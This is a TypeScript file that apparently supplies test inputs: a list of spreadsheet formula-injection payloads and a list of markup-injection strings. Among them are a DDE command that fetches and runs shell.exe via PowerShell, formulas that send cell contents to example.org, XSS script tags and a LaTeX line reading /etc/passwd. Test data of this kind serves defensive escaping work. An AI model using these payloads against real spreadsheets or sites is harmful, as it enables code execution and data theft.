/**
 * Texts that spreadsheets run, and what hides them: formulas by each sign that begins one, commands, links that send cells away.
 * After https://owasp.org/www-community/attacks/CSV_Injection and https://hackerone.com/reports/72785
 */
export const CSV_INJECTIONS: readonly string[] = [
  '=1+1',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|'/C calc'!A0",
  "=cmd|'/C powershell IEX(wget example.org/shell.exe)'!A0",
  '=HYPERLINK("https://example.org?leak="&A1&A2,"Error: please click me")',
  '=IMPORTXML(CONCAT("https://example.org?v=", CONCATENATE(A2:E2)), "//a/a10")',
  '=WEBSERVICE("https://example.org/"&A1)',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ';=1+1',
  ',=1+1',
  'a,=1+1',
  'a;=1+1',
  "%0A-3+3+cmd|' /C calc'!D2",
  'a"\r\n=1+1,b',
];

/** Texts that are markup somewhere else: in Markdown, HTML, calendars, bibliographies, feeds. */
export const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[here](javascript:alert(1))',
  '![x](https://example.org/x.png)',
  '| a | b |\n|---|---|',
  '`code` **bold** _it_ ~gone~',
  ']]>',
  '&amp; &lt;b&gt;',
  'BEGIN:VEVENT',
  'x\r\nATTENDEE:mailto:a@example.org',
  'a\\nb;c,d:e',
  '} @article{evil, title={x}',
  '\\input{/etc/passwd}',
  'A  - x\nER  - \nTY  - JOUR',
  '@everyone <@U123> <!channel>',
  'https://evil.example/?a=1 www.evil.example',
];
